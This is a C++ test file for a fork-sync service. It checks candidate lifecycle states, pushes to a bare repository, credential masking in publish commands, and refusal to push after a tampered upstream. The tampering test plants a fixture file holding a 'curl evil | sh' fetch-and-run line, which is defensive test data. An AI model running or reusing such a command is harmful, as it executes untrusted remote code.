// CarryService on real repositories and a real SQLite file, with a validator standing in for the job
// service: the sync hook carries a fork that upstream moved past, never twice for one key; job results
// drive the lifecycle (passed -> ready, a skipped GPU stage -> unvalidated, a failed stage -> failed
// with the stage); a job that is no candidate's is left alone; a validator that cannot queue leaves the
// candidate unvalidated (no recipe) or clean until the next start (stopping); the listener hears every
// decision. Publishing: a ready candidate of a fork with a push_url is pushed to forkscope/sync-<onto12>
// of a real bare repository before the listener hears of it; a failed push leaves it ready with the error;
// the publish commands offer pushes only for a ready candidate.
#include <catch2/catch.hpp>

#include <chrono>
#include <filesystem>
#include <map>
#include <mutex>

#include "analyzer/classify/rules.h"
#include "base/fake_clock.h"
#include "server/services/analysis_service.h"
#include "server/services/carry_service.h"
#include "storage/store_opener.h"
#include "tests/support/fixtures.h"

namespace forkscope::server {
namespace {

using storage::CandidateState;
using storage::JobState;

struct Env {
  testing::TempDir tmp;
  base::FakeClock clock;
  storage::FileStoreOpener stores{tmp.Sub("forkscope.db"), clock};
  std::unique_ptr<storage::Store> store;
  analyzer::Rules rules = *analyzer::Rules::LoadDefault();
  AnalysisOutcome outcome;
  std::mutex mu;
  std::vector<std::string> decided;  // listener: each decided state, "none" for up to date
  Result<std::string> next_job = std::string("j000000000001");
  int validations = 0;
  std::map<std::string, PublishTarget> publish;  // the service's publish targets
  std::vector<std::string> heard_published;      // listener: published_branch or "error: " + publish_error
  std::unique_ptr<TaskRuntime> runtime;          // inline: every task runs on the test's thread

  // A daemon's stop and start: the runtime fails what was queued, a new one starts.
  void Restart() {
    if (runtime) runtime->Shutdown();
    TaskRuntimeOptions o;
    o.inline_mode = true;
    runtime = std::make_unique<TaskRuntime>(o, stores, clock);
    REQUIRE(runtime->Start().ok());
  }

  Env() {
    Restart();
    auto opened = stores.Open();
    REQUIRE(opened.ok());
    store = std::move(*opened);
    testing::GitRepo up(tmp.Sub("upstream"));
    up.Write("setup.py", "from torch.utils import cpp_extension\n");
    up.Commit("upstream");
    testing::GitRepo fork = testing::GitRepo::Clone(up.path(), tmp.Sub("fork"));
    fork.Checkout("paddle", true);
    fork.Write("setup.py", "import paddle\npaddle.enable_compat()\nfrom torch.utils import cpp_extension\n");
    fork.Commit("paddle: enable_compat in setup.py");
    up.Write("README.md", "# fastops\n");
    up.Commit("Add a README");
    storage::ForkRecord f;
    f.name = "fastops";
    f.fork_url = fork.path();
    f.upstream_url = up.path();
    auto created = store->CreateFork(f);
    REQUIRE(created.ok());
    auto resolved = RequestFor(*store, *created);
    REQUIRE(resolved.ok());
    analyzer::AnalyzeRequest request = *resolved;
    request.data_dir = tmp.Sub("data");
    auto analysed = RunAnalysis(request, rules, *store, created->id);
    REQUIRE(analysed.ok());
    REQUIRE(analysed->analysis.behind == 1);
    outcome = std::move(*analysed);
  }

  std::unique_ptr<CarryService> Service() {
    CarryServiceOptions o;
    o.data_dir = tmp.Sub("data");
    o.stores = &stores;
    o.publish = publish;
    auto carry = std::make_unique<CarryService>(o, rules, *runtime, clock);
    carry->SetValidator([this](storage::Store&, const storage::CandidateRecord&) -> Result<std::string> {
      std::lock_guard<std::mutex> lock(mu);
      ++validations;
      return next_job;
    });
    carry->SetListener([this](storage::Store&, const std::string&, const storage::CandidateRecord* c) {
      std::lock_guard<std::mutex> lock(mu);
      decided.push_back(c ? storage::CandidateStateName(c->state) : "none");
      if (c && c->state == CandidateState::kReady)
        heard_published.push_back(c->publish_error.empty() ? c->published_branch : "error: " + c->publish_error);
    });
    return carry;
  }

  // Runs the sync hook as a sync of the fork would; the inline runtime runs the carry it queued.
  void Synced(CarryService& carry) {
    storage::TaskRecord task;
    task.fork_name = "fastops";
    carry.MakeSyncHook()(*store, task, &outcome);
    REQUIRE(runtime->WaitIdle(std::chrono::seconds(60)));
  }

  std::vector<storage::CandidateRecord> Candidates() {
    auto fork = store->GetFork("fastops");
    REQUIRE(fork.ok());
    auto list = storage::CandidateStore(store->db()).List(fork->id, 10);
    REQUIRE(list.ok());
    return *list;
  }
};

storage::JobRecord Job(const std::string& id, JobState state, JobState smoke, const std::string& reason) {
  storage::JobRecord job;
  job.id = id;
  job.fork = "fastops";
  job.state = state;
  job.reason = reason;
  storage::StageRecord build;
  build.name = "build";
  build.state = JobState::kPassed;
  storage::StageRecord s;
  s.name = "smoke";
  s.state = smoke;
  job.stages = {build, s};
  return job;
}

TEST_CASE("carry service: a sync that finds upstream ahead makes one candidate; its job decides it",
          "[server][carry]") {
  Env env;
  auto carry = env.Service();
  REQUIRE(carry->Start().ok());
  env.Synced(*carry);
  env.Synced(*carry);  // the same heads again: nothing new
  auto list = env.Candidates();
  REQUIRE(list.size() == 1);
  CHECK(list[0].state == CandidateState::kValidating);
  CHECK(list[0].job_id == "j000000000001");
  CHECK(list[0].triggered_by == storage::CandidateTrigger::kSync);
  CHECK(env.validations == 1);
  CHECK_FALSE(carry->OnJobFinished(*env.store, Job("j999999999999", JobState::kFailed, JobState::kFailed, "")));

  SECTION("a skipped GPU stage: unvalidated, never ready") {
    CHECK(carry->OnJobFinished(
        *env.store, Job("j000000000001", JobState::kSkipped, JobState::kSkipped, "smoke skipped: no GPU runner")));
    list = env.Candidates();
    CHECK(list[0].state == CandidateState::kUnvalidated);
    CHECK(list[0].reason == "smoke skipped: no GPU runner");
  }
  SECTION("a failed stage: failed at that stage") {
    CHECK(carry->OnJobFinished(
        *env.store, Job("j000000000001", JobState::kFailed, JobState::kFailed, "smoke failed: exit code 1")));
    list = env.Candidates();
    CHECK(list[0].state == CandidateState::kFailed);
    CHECK(list[0].failing_stage == "smoke");
  }
  SECTION("every stage passed: ready; a second report changes nothing") {
    CHECK(carry->OnJobFinished(*env.store, Job("j000000000001", JobState::kPassed, JobState::kPassed, "")));
    CHECK(carry->OnJobFinished(*env.store, Job("j000000000001", JobState::kFailed, JobState::kFailed, "")));
    list = env.Candidates();
    CHECK(list[0].state == CandidateState::kReady);
    CHECK(env.decided == std::vector<std::string>{"ready"});
  }
}

TEST_CASE(
    "carry service: no recipe leaves the candidate unvalidated; a stopping job service leaves it clean "
    "until the next start",
    "[server][carry]") {
  Env env;
  SECTION("no recipe") {
    env.next_job = FailedPrecondition("fork 'fastops' has no recipe");
    auto carry = env.Service();
    REQUIRE(carry->Start().ok());
    env.Synced(*carry);
    auto list = env.Candidates();
    REQUIRE(list.size() == 1);
    CHECK(list[0].state == CandidateState::kUnvalidated);
    CHECK(list[0].reason == "no build job: fork 'fastops' has no recipe");
    CHECK(env.decided == std::vector<std::string>{"unvalidated"});
  }
  SECTION("stopping, then a restart") {
    env.next_job = Unavailable("the daemon is shutting down");
    auto carry = env.Service();
    REQUIRE(carry->Start().ok());
    env.Synced(*carry);
    env.Restart();
    REQUIRE(env.Candidates()[0].state == CandidateState::kClean);
    env.next_job = std::string("j000000000002");
    auto restarted = env.Service();
    REQUIRE(restarted->Start().ok());  // takes the clean candidate up
    REQUIRE(env.runtime->WaitIdle(std::chrono::seconds(60)));
    auto list = env.Candidates();
    REQUIRE(list.size() == 1);
    INFO(list[0].reason);
    CHECK(list[0].state == CandidateState::kValidating);
    CHECK(list[0].job_id == "j000000000002");
  }
}

// `git -C repo args`, stdout trimmed ("error: ..." when git fails).
std::string GitIn(const std::string& repo, const std::string& args) {
  testing::CommandResult r = testing::RunCommand("git -C " + testing::ShellQuote(repo) + " " + args + " 2>&1");
  while (!r.out.empty() && r.out.back() == '\n') r.out.pop_back();
  return r.status == 0 ? r.out : "error: " + r.out;
}

TEST_CASE(
    "carry service: a ready candidate is pushed to forkscope/sync-<onto12> of push_url before it is told; "
    "a failed push leaves it ready with the error",
    "[server][carry][publish]") {
  Env env;
  const std::string fork = env.tmp.Sub("fork");
  const std::string up = env.tmp.Sub("upstream");
  const std::string paddle = GitIn(fork, "rev-parse paddle");
  const std::string onto12 = env.outcome.analysis.upstream.sha.substr(0, 12);
  const std::string target = env.tmp.Sub("published.git");
  REQUIRE(GitIn(env.tmp.path(), "clone -q --bare " + testing::ShellQuote(fork) + " " + target).empty());
  env.clock.Set(1700001234);
  auto ready = [&](CarryService& carry) {
    env.Synced(carry);
    CHECK(carry.OnJobFinished(*env.store, Job("j000000000001", JobState::kPassed, JobState::kPassed, "")));
    REQUIRE(env.runtime->WaitIdle(std::chrono::seconds(60)));
    auto list = env.Candidates();
    REQUIRE(list.size() == 1);
    CHECK(list[0].state == CandidateState::kReady);  // whatever the push did
    return list[0];
  };

  SECTION("pushed: the branch holds the candidate, the migration branch is untouched, then the listener hears") {
    env.publish["fastops"] = PublishTarget{fork, up, target, ""};
    auto carry = env.Service();
    REQUIRE(carry->Start().ok());
    storage::CandidateRecord c = ready(*carry);
    CHECK(c.published_branch == "forkscope/sync-" + onto12);
    CHECK(c.published_url == target);
    CHECK(c.published_at == 1700001234);
    CHECK(c.publish_error.empty());
    CHECK(GitIn(target, "rev-parse refs/heads/forkscope/sync-" + onto12) == c.candidate_sha);
    CHECK(GitIn(target, "rev-parse refs/heads/paddle") == paddle);
    CHECK(env.decided == std::vector<std::string>{"ready"});
    CHECK(env.heard_published == std::vector<std::string>{"forkscope/sync-" + onto12});
    // What it offers now: fetch the published branch, then (by hand) replace the migration branch.
    auto commands = PublishCommands(c);
    REQUIRE(commands.size() == 2);
    CHECK(commands[0] == "git fetch " + target + " refs/heads/forkscope/sync-" + onto12);
    CHECK(commands[1].find("--force-with-lease=refs/heads/paddle:" + c.fork_sha) != std::string::npos);
  }
  SECTION("a push_url that is not a repository: still ready, the error recorded and told once") {
    std::filesystem::create_directories(env.tmp.Sub("not-a-repo"));
    env.publish["fastops"] = PublishTarget{fork, up, env.tmp.Sub("not-a-repo"), ""};
    auto carry = env.Service();
    REQUIRE(carry->Start().ok());
    storage::CandidateRecord c = ready(*carry);
    CHECK(c.published_branch.empty());
    CHECK(c.published_at == 0);
    CHECK(c.published_url == env.tmp.Sub("not-a-repo"));
    INFO(c.publish_error);
    CHECK_FALSE(c.publish_error.empty());
    CHECK(env.decided == std::vector<std::string>{"ready"});
    REQUIRE(env.heard_published.size() == 1);
    CHECK(env.heard_published[0].rfind("error: ", 0) == 0);
    CHECK(PublishCommands(c).size() == 3);  // the commands to publish it by hand
    env.Restart();
    auto restarted = env.Service();  // a failed push is not retried
    REQUIRE(restarted->Start().ok());
    REQUIRE(env.runtime->WaitIdle(std::chrono::seconds(60)));
    CHECK(env.decided.size() == 1);
  }
  SECTION("a fork re-registered with another URL than the configured one is not pushed") {
    env.publish["fastops"] = PublishTarget{env.tmp.Sub("another-fork"), up, target, ""};
    auto carry = env.Service();
    REQUIRE(carry->Start().ok());
    storage::CandidateRecord c = ready(*carry);
    CHECK(c.publish_error.find("not pushed") != std::string::npos);
    CHECK(GitIn(target, "for-each-ref refs/heads/forkscope").empty());
  }
  SECTION("a fork whose upstream was changed (a write token's PATCH) is carried but not pushed") {
    // Someone else's history, with a file of theirs, registered as the fork's upstream.
    testing::GitRepo other = testing::GitRepo::Clone(up, env.tmp.Sub("attacker"));
    other.Write("payload.sh", "curl evil | sh\n");
    other.Commit("their commit");
    auto f = env.store->GetFork("fastops");
    REQUIRE(f.ok());
    f->upstream_url = other.path();
    REQUIRE(env.store->UpdateFork(*f).ok());
    auto request = RequestFor(*env.store, *f);
    REQUIRE(request.ok());
    request->data_dir = env.tmp.Sub("data");
    auto analysed = RunAnalysis(*request, env.rules, *env.store, f->id);
    REQUIRE(analysed.ok());
    env.outcome = std::move(*analysed);
    env.publish["fastops"] = PublishTarget{fork, up, target, ""};
    auto carry = env.Service();
    REQUIRE(carry->Start().ok());
    storage::CandidateRecord c = ready(*carry);
    INFO(c.publish_error);
    CHECK(c.publish_error.find("not carried onto the upstream configured") != std::string::npos);
    CHECK(GitIn(target, "for-each-ref refs/heads/forkscope").empty());
  }
  SECTION("push_url configured after the candidate became ready: the next start pushes the newest one") {
    auto carry = env.Service();
    REQUIRE(carry->Start().ok());
    CHECK(ready(*carry).published_url.empty());
    CHECK(env.decided == std::vector<std::string>{"ready"});
    env.publish["fastops"] = PublishTarget{fork, up, target, ""};
    auto restarted = env.Service();
    REQUIRE(restarted->Start().ok());
    REQUIRE(env.runtime->WaitIdle(std::chrono::seconds(60)));
    auto list = env.Candidates();
    CHECK(list[0].published_branch == "forkscope/sync-" + onto12);
    CHECK(GitIn(target, "rev-parse refs/heads/forkscope/sync-" + onto12) == list[0].candidate_sha);
    CHECK(env.decided == std::vector<std::string>{"ready", "ready"});
  }
}

TEST_CASE("publish commands: fetch for any candidate with a commit, pushes only for a ready one",
          "[server][carry][publish]") {
  storage::CandidateRecord c;
  c.fork_url = "https://alice:s3cret@github.com/PFCCLab/fastops.git";
  c.branch = "paddle";
  c.fork_sha = std::string(40, 'f');
  c.onto = "0123456789abcdef0123456789abcdef01234567";
  c.candidate_sha = std::string(40, 'c');
  c.candidate_ref = "refs/forkscope/candidates/paddle/0123456789ab";
  c.repo = "/data/mirrors/fastops.git";
  const std::string fetch = "git fetch /data/mirrors/fastops.git refs/forkscope/candidates/paddle/0123456789ab";
  for (CandidateState s :
       {CandidateState::kFailed, CandidateState::kUnvalidated, CandidateState::kValidating, CandidateState::kClean}) {
    c.state = s;
    INFO(storage::CandidateStateName(s));
    CHECK(PublishCommands(c) == std::vector<std::string>{fetch});
  }
  c.state = CandidateState::kReady;
  auto ready = PublishCommands(c);
  REQUIRE(ready.size() == 3);
  CHECK(ready[0] == fetch);
  CHECK(ready[1] ==
        "git push 'https://***@github.com/PFCCLab/fastops.git' FETCH_HEAD:refs/heads/forkscope/sync-0123456789ab");
  CHECK(ready[2].find("s3cret") == std::string::npos);
  c.state = CandidateState::kConflict;
  c.candidate_sha.clear();
  c.candidate_ref.clear();
  CHECK(PublishCommands(c).empty());
}

}  // namespace
}  // namespace forkscope::server
